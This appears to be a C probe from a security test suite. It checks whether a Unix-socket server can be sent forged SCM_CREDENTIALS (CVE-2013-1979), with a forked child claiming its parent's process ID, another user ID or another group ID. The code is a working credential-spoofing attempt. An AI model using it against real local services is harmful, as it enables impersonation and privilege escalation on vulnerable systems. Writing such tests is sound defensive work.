/*
 * Tells a server of the host that it is another process and user (unix(7),
 * SCM_CREDENTIALS; CVE-2013-1979).
 */
#include "attempt.h"
#include "network.h"

int main(int argc, char **argv)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), met = 0, status;
	pid_t liar;

	if (argc < 2 || strlen(argv[1]) >= sizeof to.sun_path)
		cannot_tell("which socket?");
	strcpy(to.sun_path, argv[1]);
	if (connect(s, (struct sockaddr *)&to, sizeof to) < 0)
		cannot_tell("no server: %s", strerrorname_np(errno));
	/* A child can say that it is its parent. */
	liar = fork();
	if (liar > 0 && waitpid(liar, &status, 0) == liar && WIFEXITED(status))
		_exit(WEXITSTATUS(status));
	if (liar != 0)
		refused("fork");
	for (int lie = 0; lie < 3; lie++) {
		struct ucred me = { lie == 0 ? getppid() : getpid(), getuid() + (lie == 1), getgid() + (lie == 2) };
		char control[CMSG_SPACE(sizeof me)] = { 0 };
		struct iovec data = { "x", 1 };
		struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
		struct cmsghdr *head = CMSG_FIRSTHDR(&message);

		head->cmsg_level = SOL_SOCKET;
		head->cmsg_type = SCM_CREDENTIALS;
		head->cmsg_len = CMSG_LEN(sizeof me);
		memcpy(CMSG_DATA(head), &me, sizeof me);
		if (sendmsg(s, &message, MSG_NOSIGNAL) == 1)
			succeeded("process %d, user %d, group %d", me.pid, me.uid, me.gid);
		met = errno;
	}
	errno = met;
	refused("sendmsg");
}
